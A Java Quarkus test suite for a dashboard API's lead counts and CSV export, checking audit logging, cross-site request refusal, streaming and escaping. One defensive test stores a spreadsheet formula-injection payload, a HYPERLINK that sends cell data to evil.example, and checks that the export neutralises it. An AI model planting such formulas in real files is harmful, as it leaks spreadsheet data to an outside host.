package com.altcontext.api.dashboard;

import static org.assertj.core.api.Assertions.assertThat;

import com.altcontext.api.testing.Call;
import com.altcontext.api.testing.RawClient;
import com.altcontext.api.testing.SignIn;
import com.altcontext.api.testing.StoredRows;
import com.altcontext.api.testing.TestService;
import com.altcontext.db.Sql;
import com.altcontext.property.Properties;
import com.fasterxml.jackson.databind.JsonNode;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The dashboard's other requests: the list of properties, and the leads of a property as counts and as a file. */
@QuarkusTest
@WithTestResource(TestService.class)
class DashboardLeadsTest {
    private static final String CSV = "/v1/dashboard/leads.csv";
    private static final int MANY = 100_000;

    @Inject
    Sql sql;

    @Inject
    Properties properties;

    private StoredRows stored;
    private String property = "";

    @BeforeEach
    void aPropertyOfItsOwn() {
        stored = new StoredRows(sql);
        property = stored.newProperty(properties);
    }

    private static Call signedIn(String method, String path) {
        return Call.of(method, path).header("cookie", SignIn.cookie()).header("sec-fetch-site", "same-origin");
    }

    private Call csv(String more) {
        return signedIn("POST", CSV + "?propertyId=" + property + more);
    }

    private void lead(String email, String status, @Nullable String expires) {
        stored.execute(
                "INSERT INTO leads VALUES (gen_random_uuid(), ?, ?, now(), now(), NULL, ?, now() + ?::interval)",
                property,
                email,
                status,
                expires);
    }

    private void someLeads() {
        lead("express@x.ca", "express", null);
        lead("other@x.ca", "express", null);
        lead("implied@x.ca", "implied", "1 hour");
        lead("expired@x.ca", "implied", "-1 hour");
        lead("withdrawn@x.ca", "withdrawn", null);
    }

    private List<JsonNode> log() {
        return stored.rows("SELECT to_jsonb(a)::text FROM audit_log a WHERE property_id = ? ORDER BY id", property);
    }

    // --- properties and counts

    @Test
    void the_properties_come_with_their_names_and_domains_in_the_order_of_their_slugs() {
        stored.execute(
                "UPDATE properties SET name = 'The \"site\"', time_zone = 'America/Toronto' WHERE id = ?", property);
        stored.execute(
                "INSERT INTO daily_metric_rollups (property_id, day, page_views) VALUES (?, '2026-01-02', 0), (?, '2026-01-04', 1), (?, '2026-01-05', 2)",
                property,
                property,
                property);
        JsonNode answer = signedIn("GET", "/v1/dashboard/properties").send().json();

        assertThat(answer.path("defaultPropertyId").isNull()).isTrue();
        List<String> ids = answer.path("properties").findValuesAsText("id");
        assertThat(ids).contains("default", property).isSorted();
        assertThat(answer.path("properties"))
                .anySatisfy(one -> assertThat(one)
                        .hasToString(
                                "{\"id\":\"" + property + "\",\"name\":\"The \\\"site\\\"\",\"domains\":[\"" + property
                                        + ".example\"],\"timeZone\":\"America/Toronto\",\"firstDay\":\"2026-01-04\"}"));
    }

    @Test
    void leads_are_counted_by_status_of_one_property_and_of_all() {
        someLeads();

        assertThat(signedIn("GET", "/v1/dashboard/leads?propertyId=" + property)
                        .send()
                        .text())
                .isEqualTo("{\"ok\":true,\"total\":5,\"byStatus\":{\"pending\":0,\"implied\":1,\"expired\":1,"
                        + "\"express\":2,\"withdrawn\":1}}");
        JsonNode all = Call.get("/v1/dashboard/leads")
                .header("x-admin-key", TestService.ADMIN_KEY)
                .send()
                .json();
        assertThat(all.path("total").asLong()).isGreaterThanOrEqualTo(5);
    }

    // --- the file

    @Test
    void the_leads_come_as_a_file_and_the_log_says_who_took_what() {
        someLeads();
        Call.Answer answer = csv("&consentStatus=express").send();

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.header("content-type")).isEqualTo("text/csv; charset=utf-8");
        assertThat(answer.header("content-disposition"))
                .matches("attachment; filename=\"leads-" + property + "-express-20\\d\\d-\\d\\d-\\d\\d\\.csv\"");
        assertThat(answer.header("cache-control")).isEqualTo("no-store");
        assertThat(answer.header("x-content-type-options")).isEqualTo("nosniff");
        assertThat(answer.header("x-rows")).isEqualTo("2");
        List<String> lines = answer.text().lines().toList();
        assertThat(lines).hasSize(3);
        assertThat(lines.getFirst()).startsWith("\uFEFFemail,property,consent_status,");
        assertThat(lines.get(1))
                .startsWith("express@x.ca," + property + ",express,,20")
                .contains(",https://api.example.com/v1/leads/unsubscribe/");
        assertThat(lines.get(2)).startsWith("other@x.ca,");

        JsonNode entry = log().getLast();
        assertThat(entry.path("done_by").asText()).isEqualTo("dashboard");
        assertThat(entry.path("action").asText()).isEqualTo("leads_csv");
        assertThat(entry.path("consent_status").asText()).isEqualTo("express");
        assertThat(entry.path("row_count").asInt()).isEqualTo(2);
        assertThat(entry.path("ip_hash").asText()).hasSize(2 + 64);
        assertThat(entry.toString()).doesNotContain("@", "127.0.0.1");
    }

    @Test
    void a_script_downloads_the_file_with_the_key_and_the_log_says_that_it_used_the_api() {
        Call.Answer answer = Call.of("POST", CSV + "?propertyId=" + property)
                .header("x-admin-key", TestService.ADMIN_KEY)
                .header("content-type", "application/x-www-form-urlencoded")
                .body("propertyId=unheard-of")
                .send();

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.text()).startsWith("\uFEFFemail,").hasLineCount(1);
        assertThat(log()).extracting(entry -> entry.path("done_by").asText()).containsExactly("api");
        assertThat(log().getFirst().path("consent_status").isNull()).isTrue();
    }

    @Test
    void text_from_strangers_is_not_a_formula_in_the_file() {
        stored.execute(
                "INSERT INTO leads VALUES (gen_random_uuid(), ?, '=1+1@x.ca', now(), now(), ?, 'express', NULL)",
                property,
                "=HYPERLINK(\"https://evil.example/?\"&A1)\n, \"é\"");

        assertThat(csv("").send().text())
                .contains("\r\n'=1+1@x.ca,")
                .contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\n, \"\"é\"\"\",https://");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "propertyId=unheard-of",
                "propertyId=",
                "consentStatus=",
                "consentStatus=EXPRESS",
                "consentStatus=all"
            })
    void an_invalid_request_gets_its_issues_and_is_not_logged(String query) {
        long before = entries();
        Call.Answer answer = signedIn("POST", CSV + "?" + query).send();

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.header("content-disposition")).isNull();
        assertThat(answer.json().path("issues")).hasSize(1);
        assertThat(entries()).isEqualTo(before);
    }

    private long entries() {
        return sql.inTransaction(tx -> tx.queryOne("SELECT count(*) FROM audit_log", row -> row.number(1)));
    }

    @Test
    void a_page_of_another_site_cannot_download_the_file_with_the_cookie() {
        for (String site : List.of("cross-site", "same-site", "none")) {
            assertThat(csv("").header("sec-fetch-site", site).send().status()).isEqualTo(401);
        }
        assertThat(csv("").without("sec-fetch-site").send().status()).isEqualTo(401);
        assertThat(csv("").without("sec-fetch-site")
                        .header("origin", "https://evil.example")
                        .send()
                        .status())
                .isEqualTo(401);
        assertThat(csv("").without("sec-fetch-site")
                        .header("origin", "null")
                        .send()
                        .status())
                .isEqualTo(401);
        assertThat(Call.of("POST", CSV).send().status()).isEqualTo(401);
        assertThat(csv("").without("sec-fetch-site")
                        .header("origin", "http://" + Call.base().getAuthority())
                        .send()
                        .status())
                .as("a page that was loaded without TLS")
                .isEqualTo(401);
        assertThat(log()).isEmpty();
        assertThat(csv("").without("sec-fetch-site")
                        .header("origin", "https://" + Call.base().getAuthority())
                        .send()
                        .status())
                .isEqualTo(200);
    }

    @Test
    void a_download_that_cannot_be_logged_is_refused() {
        someLeads();
        stored.execute(
                "ALTER TABLE audit_log ADD CONSTRAINT poison CHECK (property_id <> '" + property + "') NOT VALID");
        try {
            Call.Answer answer = csv("").send();

            assertThat(answer.status()).isEqualTo(500);
            assertThat(answer.text()).isEqualTo("{\"ok\":false,\"error\":\"internal_error\"}");
            assertThat(answer.header("content-disposition")).isNull();
        } finally {
            stored.execute("ALTER TABLE audit_log DROP CONSTRAINT poison");
        }
    }

    // --- a file that is too long for memory

    private void manyLeads() {
        stored.execute(
                "INSERT INTO leads SELECT gen_random_uuid(), ?, 'n' || lpad(n::text, 6, '0') || '@x.ca', now(), now(),"
                        + " repeat('é', 100), 'express', NULL FROM generate_series(1, ?) AS n",
                property,
                MANY);
    }

    @Test
    void a_long_file_arrives_complete() {
        manyLeads();
        Call.Answer answer = csv("").send();

        assertThat(answer.header("content-length")).isNull();
        assertThat(answer.header("x-rows")).isEqualTo(String.valueOf(MANY));
        assertThat(answer.text().lines()).hasSize(MANY + 1);
        assertThat(answer.text()).endsWith("\r\n");
        assertThat(log().getLast().path("row_count").asInt()).isEqualTo(MANY);
    }

    @Test
    void a_file_that_is_cut_off_by_a_database_failure_does_not_look_complete() throws Exception {
        manyLeads();
        try (RawClient slow = new RawClient()) {
            slow.write(rawRequest());
            // The service stops sending when the client stops reading. Then the test ends the service's database
            // connection.
            slow.awaitAnswer();
            new StoredRows(sql).terminate("%FROM leads%ORDER BY property_id, email%");
            String answer = slow.readAll();
            assertThat(answer.substring(0, 13)).isEqualTo("HTTP/1.1 200 ");
            assertThat(answer.endsWith("0\r\n\r\n"))
                    .as("the answer ends as a complete one does")
                    .isFalse();
            assertThat(answer.contains("n" + MANY + '@'))
                    .as("the answer has the last lead")
                    .isFalse();
            assertThat(answer.contains("internal_error"))
                    .as("the answer has an error in its text")
                    .isFalse();
        } finally {
            // The lost connection made the service consider the database unavailable. Requests get 503 until it
            // answers.
            StoredRows.await(() -> csv("&consentStatus=pending").send().status(), 200);
        }
        assertThat(log().getFirst().path("row_count").asInt())
                .as("the download is logged")
                .isEqualTo(MANY);
    }

    @Test
    void a_client_that_disconnects_in_the_middle_delays_no_other_client() throws Exception {
        manyLeads();
        for (int i = 0; i < 6; i++) {
            try (RawClient client = new RawClient()) {
                client.write(rawRequest());
                client.awaitAnswer();
            }
        }
        assertThat(csv("").send().text().lines()).hasSize(MANY + 1);
        assertThat(log()).hasSize(7);
    }

    private String rawRequest() {
        return "POST " + CSV + "?propertyId=" + property + " HTTP/1.1\r\nHost: x\r\nCookie: " + SignIn.cookie()
                + "\r\nSec-Fetch-Site: same-origin\r\nContent-Length: 0\r\n\r\n";
    }
}
